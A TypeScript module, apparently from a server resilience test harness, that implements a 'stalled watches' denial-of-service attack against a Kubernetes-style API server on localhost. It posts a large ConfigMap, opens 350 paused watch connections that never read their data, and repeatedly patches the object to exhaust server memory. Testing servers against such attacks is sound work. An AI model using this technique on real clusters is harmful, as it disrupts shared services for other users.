import { once } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import type { Attack, AttackContext } from '../attack.ts';

const WATCHES = 350;
const CHANGES = 60;
const VALUE_BYTES = 900_000;
const PATH = '/api/v1/namespaces/tenant/configmaps';

/** Opens watches with different selectors without reading them, while a large object changes. */
export const stalledWatches: Attack = {
  name: 'stalled watches',
  async run(context) {
    const { tenant } = context;
    const labels = Object.fromEntries(Array.from({ length: WATCHES }, (_, i) => [`l${i}`, 'x']));
    const data = { large: 'x'.repeat(VALUE_BYTES) };
    await tenant.send('POST', PATH, { body: { metadata: { name: 'large', labels }, data } });
    const sockets = await Promise.all(Array.from({ length: WATCHES }, (_, i) => openWatch(context, i)));
    for (let i = 0; i < CHANGES; i++) {
      const body = { data: { count: String(i) } };
      await tenant.send('PATCH', `${PATH}/large`, { body, type: 'application/merge-patch+json' });
      await wait(50);
    }
    for (const socket of sockets) socket.destroy();
    await tenant.send('DELETE', `${PATH}/large`);
  },
};

async function openWatch({ target }: AttackContext, i: number): Promise<TLSSocket> {
  const { port, tokens } = target;
  const socket = connect({ port, host: '127.0.0.1', ca: await target.ca(), ALPNProtocols: ['http/1.1'] });
  socket.on('error', () => undefined);
  await once(socket, 'secureConnect');
  socket.pause();
  const query = `?watch=1&labelSelector=l${i}%3Dx`;
  socket.write(`GET ${PATH}${query} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${tokens.tenant}\r\n\r\n`);
  return socket;
}
